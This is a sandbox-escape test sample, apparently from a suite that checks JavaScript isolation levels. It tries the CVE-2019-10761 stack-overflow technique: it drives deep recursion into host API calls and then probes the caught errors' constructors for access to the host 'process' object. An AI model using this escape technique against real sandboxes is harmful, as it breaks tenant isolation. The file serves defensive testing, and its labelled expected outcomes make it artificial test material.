/*---
id: re-stack-overflow-02-host-frame
description: "Recurses to just below the stack limit and then calls into the injected API, so that the overflow happens inside a callback frame (the CVE-2019-10761 shape) and the RangeError may be built by the host."
kind: malicious
category: realm-escape
technique: RE-stack-overflow
variant: obfuscated
references:
  - "CVE-2019-10761"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
---*/
const calls = [() => console.log('edge'), () => (typeof require === 'function' ? require('lodash') : 0), () => JSON.stringify({ a: 1 })];
const caught = [];
// Measure the stack once, then re-enter the API with only a few frames of headroom left.
let max = 0;
const measure = () => { max++; measure(); };
try { measure(); } catch (e) {}
const at = (depth, call) => (depth > 0 ? at(depth - 1, call) : call());
for (const call of calls) {
  for (const slack of [3, 9, 17]) {
    try { at(max - slack, call); } catch (e) { caught.push(e); }
  }
}
for (const e of caught) {
  if (e === null || typeof e !== 'object') continue;
  try { if (e.constructor.constructor('return typeof process')() !== 'undefined') return 'ESCAPED'; } catch (x) {}
}
return 'held';
